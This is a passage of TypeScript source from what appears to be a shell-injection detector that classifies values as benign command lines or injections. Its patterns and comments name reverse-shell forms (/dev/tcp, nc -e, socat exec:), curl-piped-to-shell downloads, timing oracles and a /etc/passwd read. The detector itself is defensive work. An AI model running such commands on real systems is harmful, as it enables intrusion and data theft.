 * (forty-second round) A notebook's shell escape that loops over plain words, its body a command line (`for i in *.tar.gz; do echo $i; tar
 * xzf $i; done`): its list holds no substitution, the body's first command is a listed program, one loop ending the value on `done`.
 * (Third review) Only where a notebook's `!` line is judged: a document's field or a command field is no notebook's escape.
 */
export function loopCommandLine(v: string): boolean {
  const loop = FOR_WORDS.exec(v)
  if (loop === null || !LOOP_END.test(v)) return false
  const body = v.slice(loop[0].length, v.lastIndexOf('done'))
  return !LOOP_WORDS.test(body) && programFirst(body)
}
/** a `for` loop's head over plain words, up to its body: `for f in *.csv; do ` (no substitution, quote or expansion in its list) */
const FOR_WORDS = /^[ \t]{0,16}for[ \t]{1,4}[a-z_]\w{0,40}[ \t]{1,4}in[ \t]{1,4}[\w.*?\/~+, -]{1,300};[ \t]{0,4}do[ \t]{1,4}/
const LOOP_END = /;[ \t]{0,4}done[ \t]*$/
/** a loop's own words inside its body: another loop, or its end before the value's (`…; done; id; for j in b; do …; done`) */
const LOOP_WORDS = /\b(?:done|for|while|until)\b/
/** A command line by its first word: a listed program or tool, a path, or an unknown program given options or a subcommand. */
function programFirst(v: string): boolean {
  let i = 0
  while (i < v.length && isBlank(v.charCodeAt(i))) i++
  // (thirtieth round) the program's environment set before it, `NODE_ENV=production node server.js`, `CI=1 FORCE_COLOR=0 jest`
  const env = ENV_PREFIX.exec(v.slice(i, i + 400))
  if (env !== null) i += env[0].length
  if (v.charCodeAt(i) === 47 || v.charCodeAt(i) === 46) return true // /usr/bin/x, ./build.sh
  // (fortieth round) a test in brackets first, `[ -e words.txt ] || curl -O https://…` (a notebook's shell escape): `test`'s own spelling
  if (TEST_BRACKETS.test(v.slice(i, i + 300))) return true
  let j = i
  while (j < v.length && isWordChar(v.charCodeAt(j))) j++
  // node_modules/.bin/nyc  vendor/bin/phpunit
  if (v.charCodeAt(j) === 47) return true
  if (j === i) return false
  const word = v.slice(i, j)
  if (COMMANDS.has(word) || TOOLS.has(word)) return true
  // an unknown program given an option or a path (`rimraf client/out`, `vscode-test-web --browserType=x`)
  let k = j
  while (k < v.length && isBlank(v.charCodeAt(k))) k++
  // (thirtieth round: or a subcommand given one, or a version, `nvs add 12.17.0`, `poetry-x run --fast`)
  return k > j && /^[a-z][\w.-]{1,40}$/.test(word) && UNKNOWN_PROGRAM_ARGUMENTS.test(v.slice(k, k + 96))
}
/** a file test in brackets, `[ -e enable1.txt ]`, `[[ -d build ]]`, `[ ! -f x ]`: one operator, one plain path */
const TEST_BRACKETS = /^\[\[?[ \t]{1,4}(?:![ \t]{1,4})?-[a-z][ \t]{1,4}[\w.\/~-]{1,200}[ \t]{1,4}\]\]?(?=[ \t]|$)/
/** Variables set for one command before it, as a shell reads them: `NAME=value ` (a word without quotes or expansions), at most four */
const ENV_PREFIX = /^(?:[A-Z_][A-Z0-9_]{0,40}=[\w.:/,@+-]{0,80}[ \t]+){1,4}/
/** What follows an unknown program's name in a command line: an option or a path, or a subcommand's word and then one, or a version */
const UNKNOWN_PROGRAM_ARGUMENTS = /^(?:[a-z][\w-]{1,20}[ \t]+)?(?:-{1,2}[a-z]|[\w.-]{0,60}\/|\d{1,4}(?:\.\d{1,6}){1,3}(?![\w.]))/
/** Build and package tools a manifest's or a configuration's command lines start with (never judged as a shell's programs). */
const TOOLS = new Set(
  ('cd npm npx yarn pnpm bun deno node tsc webpack vite rollup esbuild eslint prettier jest mocha vitest rimraf cross-env go cargo rustc mvn gradle pip pip3 poetry uv docker docker-compose kubectl helm git composer bundle rake dotnet ' +
    // (json22) frameworks' and build systems' own command-line tools, as an editor's tasks and a container's setup commands start with them
    'rails rspec pytest tox nox make cmake ninja meson bazel gradlew mvnw flutter dart ng nx turbo lerna nodemon ts-node tsx playwright cypress nuxt astro expo firebase hugo jekyll swift xcodebuild msbuild terraform pipenv conda gem mkdocs sphinx-build tauri electron-builder').split(' '),
)

/**
 * A command line of another interpreter a value reaches (docs/detection.md): cmd.exe's `IF` and `FOR`
 * (`IF EXIST "x" ECHO found`, `IF /I "%v%" EQU "1" ECHO y`, `FOR /L %%G IN (1,1,5) DO echo %%G`), and a
 * mail protocol's command after a line break that starts the value (IMAP `a001 EXAMINE INBOX`, SMTP
 * `MAIL FROM:<a@b>`, POP3 `RETR 1`): what a webmail or a batch wrapper passes on.
 */
export function protocolCommand(v: string): boolean {
  if (v.length > 300) return false
  // written with `+` for its blanks where nothing decodes it (a header, a cookie): IF+EXIST+x+ECHO+y
  if (v.includes('+') && !v.includes(' ')) v = v.replace(PLUSES, ' ')
  const c = v.charCodeAt(0)
  if (c === 10 || c === 13) return MAIL_COMMAND.test(v)
  return !v.includes('\n') && BATCH.test(v) && !BATCH_CODE.test(v)
}
const BATCH = /^\s{0,10}(?:[&|;]{1,2}\s{0,10})?(?:if\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+\S|defined\s+\S|errorlevel\s+\d|cmdextversion\s+\d|\(?\s{0,4}\S{1,80}?\s{0,4}(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s{0,4}\S{1,80}\s+[a-z(])|for\s+(?:\/[dlrf]\s+(?:"[^"]{0,80}"\s+|[a-z]:\\\S{0,80}\s+)?)?%{1,2}\S{1,2}\s+in\s*\()/
/** Code's `if a == b then` / `if x == y:` / `if (a == b) {`: no batch line */
const BATCH_CODE = /\bthen\b|[:{]\s*$|&&|\|\|/
const MAIL_COMMAND = /^[\r\n]{1,4}[ \t]{0,4}(?:[a-z]{1,4}\d{1,4}[ \t]+(?:uid[ \t]+)?(?:capability|noop|logout|authenticate|login|select|examine|create|delete|rename|subscribe|unsubscribe|list|lsub|status|append|check|close|expunge|search|fetch|store|copy|move|idle)\b|(?:mail[ \t]+from|rcpt[ \t]+to)[ \t]*:|(?:data|quit|rset|noop|starttls|stat|uidl|capa)[ \t]*(?:[\r\n]|$)|(?:retr|dele|top|apop|auth|user|pass|vrfy|expn|helo|ehlo)[ \t]+[^\s]{1,60}(?:[ \t]+[^\s]{1,60})?[ \t]*(?:[\r\n]|$))/
/**
 * A whole program in the shell sent as data (a plugin, a sample in a code field): three lines or
 * more, two of them its own structure — a function's definition, `if … then`/`fi`, `for`/`while … do`/
 * `done`, `case … in`/`esac`, `local`/`export`/`alias` lines, comment lines (one at least not a comment:
 * a Markdown page's headings alone are no program), and a control structure or a function among them
 * (declarations and comments alone are dressing anyone can put around an injected line). Its `$(git …)`, `| grep`
 * and `&& exit` are its own; a value that starts with a line break is an injection, never a program.
 */
export function shellProgram(v: string): boolean {
  if (v.length < 40 || v.length > 200_000) return false
  // (twenty-fifth round) a Python module: its imports and its `else:` are no shell's
  if (PYTHON_IMPORT.test(v)) return false
  const first = v.charCodeAt(0)
  if (first === 10 || first === 13) return false
  let lines = 0
  let structure = 0
  let code = 0
  let control = 0
  let start = 0
  while (start < v.length && lines < 400) {
    let end = v.indexOf('\n', start)
    if (end === -1) end = v.length
    const line = v.slice(start, Math.min(end, start + 300))
    if (line.trim() !== '') {
      lines++
      if (PROGRAM_LINE.test(line)) {
        structure++
        if (!line.trimStart().startsWith('#')) code++
        if (PROGRAM_CONTROL.test(line)) control++
      }
    }
    start = end + 1
  }
  if (lines < 3) return false
  if (structure >= 2 && code >= 1 && control >= 1) return true
  // (twelfth round) a script file by its interpreter line (`#!/bin/sh`, `#! /usr/bin/env … sh -x`), and the
  // body of a function cut from one: every line indented, the last its closing brace
  return SHEBANG.test(v) || functionBody(v)
}
// (forty-third round: or a notebook cell's magic that runs the cell in a shell, `%%bash`, `%%sh`, `%%script bash`)
const SHEBANG = /^(?:#![ \t]{0,4}\/(?:usr\/)?(?:local\/)?bin\/(?:env[ \t][^\n]{0,200}|(?:ba|z|da|k|c|tc)?sh\b)|%%(?:script[ \t]{1,4})?(?:ba|z|da)?sh[ \t]*(?:\n|$))/
const INDENTED = /^(?:\t|[ ]{2,})\S/
const CLOSING = /^[ \t]{0,8}\}[ \t]{0,4}$/
function functionBody(v: string): boolean {
  const lines = v.trimEnd().split('\n', 400)
  if (!CLOSING.test(lines[lines.length - 1]!)) return false
  let body = 0
  for (let i = 0; i < lines.length - 1; i++) {
    const line = lines[i]!
    if (line.trim() === '') continue
    if (!INDENTED.test(line)) return false
    body++
  }
  return body >= 2
}
/**
 * An injection on a program's first line when that line is none of its structure (`x; cat /etc/passwd`
 * then lines of a script): what an injected value shows before the script it is dressed in.
 */
export function programHeadInjection(v: string): boolean {
  const nl = v.indexOf('\n')
  const head = v.slice(0, nl === -1 ? 300 : Math.min(nl, 300))
  // (twelfth round) an indented line opening on a word is a program's own line, not a breakout
  return !PROGRAM_LINE.test(head) && !(INDENTED.test(head) && /^\s*\w/.test(head)) && shellInjection(head)
}
const PYTHON_IMPORT = /(?:^|\n)(?:import [\w.]+(?: as \w+)?[ \t]*(?:\n|$)|from [\w.]+ import [\w(*])/
/** a program's control structure or a function's definition (declarations and comments alone are dressing anyone can put around an injected line) */
// (forty-first round: `else:` is Python's, no shell's word — a shell's `else` stands alone)
const PROGRAM_CONTROL = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:&&|\|\||$)|function[ \t]+[\w:.-]{1,60}|[\w:.-]{1,60}[ \t]{0,4}\(\)[ \t]{0,4}(?:\{|$)|(?:if|elif|while|until)[ \t][^\n]{0,280}\bthen\b|(?:then|fi|else|do|done|esac)\b(?!:)|(?:for|while|until|select)[ \t][^\n]{0,280}\bdo\b|case[ \t][^\n]{0,200}[ \t]in\b)/
const PROGRAM_LINE = /^[ \t]{0,40}(?:\[\[[ \t][^\n]{0,280}[ \t]\]\][ \t]{0,4}(?:&&|\|\||$)|#|function[ \t]+[\w:.-]{1,60}|[\w:.-]{1,60}[ \t]{0,4}\(\)[ \t]{0,4}(?:\{|$)|(?:if|elif|while|until)[ \t][^\n]{0,280}\bthen\b|(?:then|fi|else|do|done|esac)\b(?!:)|(?:for|while|until|select)[ \t][^\n]{0,280}\bdo\b|case[ \t][^\n]{0,200}[ \t]in\b|(?:local|export|alias|typeset|declare|readonly|autoload|unset|unalias|zstyle|compdef|setopt|bindkey|source)[ \t])/
/**
 * What stays an attack inside a whole program: a reverse shell (`bash -i >& /dev/tcp/…`, `nc -e`,
 * `mkfifo … nc`, `socat … exec:`) and a download run at once (`curl … | sh`, `wget … -O- | bash`).
 */
// (seventeenth round) a timing oracle: a test whose two branches only sleep, for different times (`then sleep 0; else sleep 5`)
export const PROGRAM_ATTACK = /\bthen[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}[ \t]{0,4}[;\n][ \t]{0,8}else[ \t]{1,4}sleep[ \t]{1,4}\d{1,3}\b|\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)[ \t][^\n]{0,100}?[ \t]-[a-z]{0,3}[ec]\b|\bmkfifo\b[^\n]{0,100}?\b(?:nc|ncat|netcat|telnet)\b|\bsocat\b[^\n]{0,100}?\bexec:|\b(?:curl|wget|fetch)\b[^\n|]{0,300}\|[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:ba|z|da|k|c|tc|fi)?sh\b/
/** The shell judge's patterns, for the ReDoS checks. */
export const SHELL_PATTERNS: readonly RegExp[] = [PROGRAM_WORD, WINDOWS_PROGRAM, WINDOWS_VARIABLE_PROGRAM, SEPARATOR_IN_LINE, ZSH_FLAGS_BEFORE, GENERIC_TYPE, GENERIC_END, SET_REST, LOOP_BINDS, ENV_ASSIGNMENT, ALIAS_OR_EXPANSION, CASE_CLOSED, REDIRECTED, LEADING_BREAK, LINE_BREAKS, REFERENCE, ENV_PREFIX, UNKNOWN_PROGRAM_ARGUMENTS, IFS_ASSIGN, FIND_EXEC, PYTHON_IMPORT, OUTPUT_REDIRECTED, DOWNLOAD_URL, URL_THEN_OPTION, ANSI_C_WORD, LEADING_SUBSHELLS, VERSION_ONLY, SHORT_TOKEN, TRAILING_COMMENT, GLUED_INPUT, ...Object.values(RUNS_NEXT), BRACE_PROGRAM, IFS_BLANK, IFS_BLANKS, VERSION_IN_SENTENCE, CHOICES, IN_WORD_EXPANSION, IN_WORD_EXPANSIONS, BLANK_RUN, HIDDEN_FILE, WORD_BREAKS, HOST_NAME, APPENDED, COMMENTED, ARGUMENT_BREAK, PLAIN_WORD, SHELL_SIGN, NUMBER_ARGUMENT, ECHO_TO_FILE, SPLICED, APPENDED_SUBSTITUTION, SENTENCE, TRAILING_SEPARATOR, ONLY_OPTIONS, CD_CHAIN, ACCESSOR, NO_OPS, QUOTE_SPLIT, SEPARATOR, GLOB_PATH, RELATIVE_GLOB_PATH, GLOB_CHAR, STAR_SEGMENT, CMD_VARIABLE, PROGRAM_PATH, BLOCK_PARAMETERS, BATCH, BATCH_CODE, MAIL_COMMAND, PROGRAM_LINE, PROGRAM_CONTROL, PROGRAM_ATTACK, SHEBANG, INDENTED, CLOSING, MARKER, EMPTY_ECHO, HOST_ARGUMENT, TYPOGRAPHIC_OPTION, ESCAPE_INTRODUCERS, PLUS_BLANK, PLUSES, BRACE_LIST, SHELL_TOKEN, READS_SYSTEM, DATE_STAMP, LONE_EXPANSION, OBJECT_CMDLET, CMDLET_WORDS, ABBREVIATION_REST, CMDLET_LINE, COQ_PROOF, IFS_GLUED_PROGRAM, VARIANT_LINE, FIRST_VARIANT_LINE, TYPE_HEAD, DATA_HEAD, VARIANT_COMMENT, TEST_BRACKETS, FOR_WORDS, LOOP_END, LOOP_WORDS, NUMBER_ASSIGNED, KUSTO_STAGE, PARENTHESIZED_PROGRAM, ORDER_STAGE, ORDER_CLAUSE, STATEMENT_END, STAGE_CONTINUED, WRITTEN_RETURN, JOIN_SIDE, LINE_LEAD, ASSIGNMENT_HEAD, FUNCTION_HEAD, OPTION_OR_PATH, QUERY_PUNCTUATION, QUOTED_ITEM, QUERY_LINE, FOREACH_REFERENCE, FOREACH_OPEN]
